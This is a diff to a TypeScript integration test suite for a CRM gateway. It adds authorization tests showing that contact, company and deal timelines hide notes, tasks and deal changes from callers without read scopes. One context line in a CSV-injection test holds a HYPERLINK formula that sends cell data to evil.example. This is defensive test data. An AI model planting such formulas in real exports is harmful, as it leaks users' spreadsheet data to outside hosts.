@@ -1,13 +1,17 @@
 import { randomBytes } from 'node:crypto';
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { jetstreamManager, type JetStreamManager } from '@nats-io/jetstream';
+import { connect, type NatsConnection } from '@nats-io/transport-node';
+import type { Role } from '@kinship/contracts';
 import type { RunningService } from '@kinship/platform';
 import { createTestEnvironment, startTestService, type TestEnvironment } from '@kinship/testing';
 import { parse } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
 import { authService } from '../../auth/src/auth.service.js';
 import { crmService } from '../../crm/src/crm.service.js';
-import { eventually } from '../../crm/test/support.js';
+import { eventually, expectError } from '../../crm/test/support.js';
 import { startGateway } from '../src/gateway.js';
+import { invitationToken } from './support.js';
 
 // --- the stack: auth, crm and the gateway of this suite, talked to only through HTTP ---
 
@@ -33,6 +37,8 @@ let environment: TestEnvironment;
 let auth: RunningService;
 let crm: RunningService;
 let gateway: RunningService;
+let nats: NatsConnection;
+let streams: JetStreamManager;
 let api: string;
 
 beforeAll(async () => {
@@ -41,12 +47,15 @@ beforeAll(async () => {
   crm = await startTestService(crmService, environment);
   gateway = await startGateway({ ...environment.env, JWT_SECRET });
   api = `${gateway.url}/api/v1`;
+  nats = await connect({ servers: environment.natsUrl });
+  streams = await jetstreamManager(nats);
 }, 60_000);
 
 afterAll(async () => {
   await gateway?.close();
   await crm?.close();
   await auth?.close();
+  await nats?.close();
   await environment?.dispose();
 });
 
@@ -70,6 +79,21 @@ async function signUp(label: string): Promise<Caller> {
   const registered = await send('POST', '/auth/register', {}, { email: `${label}-${randomBytes(4).toString('hex')}@example.com`, password: PASSWORD, name: label, workspaceName: `${label} workspace` });
   expect(registered.status).toBe(201);
   return callerOf(registered.body.user.id, registered.body.workspace.id, { authorization: `Bearer ${registered.body.accessToken}` });
+}
+
+/** Invites someone with the role into the owner's workspace and accepts for them. */
+async function addMember(owner: Caller, role: Role): Promise<Caller> {
+  const invitation = await owner.request('POST', '/invitations', { email: `${role}-${randomBytes(4).toString('hex')}@example.com`, role });
+  expect(invitation.status).toBe(201);
+  const accepted = await send('POST', '/invitations/accept', {}, { token: await invitationToken(environment, streams, invitation.body.id), name: `A ${role}`, password: PASSWORD });
+  expect(accepted.status).toBe(201);
+  return callerOf(accepted.body.user.id, owner.workspaceId, { authorization: `Bearer ${accepted.body.accessToken}` });
+}
+
+async function apiKey(owner: Caller, scopes: string[]): Promise<Caller> {
+  const created = await owner.request('POST', '/api-keys', { name: `key ${randomBytes(3).toString('hex')}`, scopes });
+  expect(created.status).toBe(201);
+  return callerOf('', owner.workspaceId, { 'x-api-key': created.body.key });
 }
 
 describe('finding 4: CSV exports neutralise formula cells (OWASP CSV injection)', () => {
@@ -129,5 +153,79 @@ describe('finding 4: CSV exports neutralise formula cells (OWASP CSV injection)'
     expect(cell('firstName').value).toBe('=HYPERLINK("http://evil.example/?leak="&A1,"click me")');
     expect(cell('phone').value).toBe('+14155550123');
     expect(cell('cf:balance').value).toBe(-5);
+  });
+});
+
+describe('finding 5: timelines show only the entries the caller may read', () => {
+  let owner: Caller;
+  let contactId: string;
+  let companyId: string;
+  let dealId: string;
+
+  async function allEntries(caller: Caller, path: string, limit: number): Promise<Array<{ id: string; kind: string }>> {
+    const entries: Array<{ id: string; kind: string }> = [];
+    let cursor: string | null = null;
+    do {
+      const page: Reply = await caller.request('GET', `${path}?limit=${limit}${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`);
+      expect(page.status).toBe(200);
+      // A page is never empty while there is a next one: forbidden entries are left out by the query, not after it.
+      if (page.body.nextCursor) expect(page.body.data).toHaveLength(limit);
+      entries.push(...page.body.data);
+      cursor = page.body.nextCursor;
+    } while (cursor);
+    return entries;
+  }
+
+  beforeAll(async () => {
+    owner = await signUp('timeline');
+    companyId = (await owner.request('POST', '/companies', { name: 'Secretive Inc' })).body.id;
+    contactId = (await owner.request('POST', '/contacts', { firstName: 'Tim', lastName: 'Line', companyId })).body.id;
+    const deal = await owner.request('POST', '/deals', { name: 'Confidential merger', amount: 990000, currency: 'EUR', companyId, contactIds: [contactId] });
+    expect(deal.status).toBe(201);
+    dealId = deal.body.id;
+    const pipeline = await owner.request('GET', `/pipelines/${deal.body.pipelineId}`);
+    const open = pipeline.body.stages.filter((stage: { kind: string }) => stage.kind === 'open');
+    // Notes, tasks and stage changes interleave in time, so filtered pages must skip entries in the middle.
+    for (let round = 0; round < 3; round += 1) {
+      for (const related of [{ type: 'contact', id: contactId }, { type: 'company', id: companyId }, { type: 'deal', id: dealId }]) {
+        expect((await owner.request('POST', '/notes', { body: `secret note ${round}`, related })).status).toBe(201);
+        expect((await owner.request('POST', '/tasks', { title: `secret task ${round}`, related })).status).toBe(201);
+      }
+      expect((await owner.request('POST', `/deals/${dealId}/stage`, { stageId: open[(round + 1) % open.length].id })).status).toBe(200);
+    }
+  });
+
+  it('an API key with contacts:read reads no note, task or deal through the contact timeline, as GET /notes refuses it', async () => {
+    const reader = await apiKey(owner, ['contacts:read']);
+    expectError(await reader.request('GET', '/notes'), 403);
+    const everything = await allEntries(owner, `/contacts/${contactId}/timeline`, 100);
+    expect(new Set(everything.map((entry) => entry.kind))).toEqual(new Set(['note', 'task_created', 'deal_stage_changed']));
+    const page = await reader.request('GET', `/contacts/${contactId}/timeline`);
+    expect(page.status).toBe(200);
+    expect(page.body).toEqual({ data: [], nextCursor: null });
+    expect(JSON.stringify(page.body)).not.toMatch(/secret|Confidential/);
+  });
+
+  it('each kind needs its own read permission, and pages of the rest neither come back short nor repeat', async () => {
+    const cases: Array<{ path: string; scopes: string[]; kinds: string[] }> = [
+      { path: `/contacts/${contactId}/timeline`, scopes: ['contacts:read', 'notes:read'], kinds: ['note'] },
+      { path: `/contacts/${contactId}/timeline`, scopes: ['contacts:read', 'tasks:read', 'deals:read'], kinds: ['task_created', 'deal_stage_changed'] },
+      { path: `/companies/${companyId}/timeline`, scopes: ['companies:read', 'tasks:read'], kinds: ['task_created'] },
+      { path: `/companies/${companyId}/timeline`, scopes: ['companies:read', 'deals:read'], kinds: ['deal_stage_changed'] },
+      { path: `/deals/${dealId}/timeline`, scopes: ['deals:read'], kinds: ['deal_stage_changed'] },
+      { path: `/deals/${dealId}/timeline`, scopes: ['deals:read', 'notes:read'], kinds: ['note', 'deal_stage_changed'] },
+    ];
+    for (const { path, scopes, kinds } of cases) {
+      const expected = (await allEntries(owner, path, 500)).filter((entry) => kinds.includes(entry.kind));
+      expect(expected.length).toBeGreaterThan(1);
+      const seen = await allEntries(await apiKey(owner, scopes), path, 2);
+      expect({ path, scopes, seen }).toEqual({ path, scopes, seen: expected });
+    }
+  });
+
+  it('a user whose role reads everything still sees every kind', async () => {
+    const viewer = await addMember(owner, 'viewer');
+    const kinds = new Set((await allEntries(viewer, `/companies/${companyId}/timeline`, 3)).map((entry) => entry.kind));
+    expect(kinds).toEqual(new Set(['note', 'task_created', 'deal_stage_changed']));
   });
 });
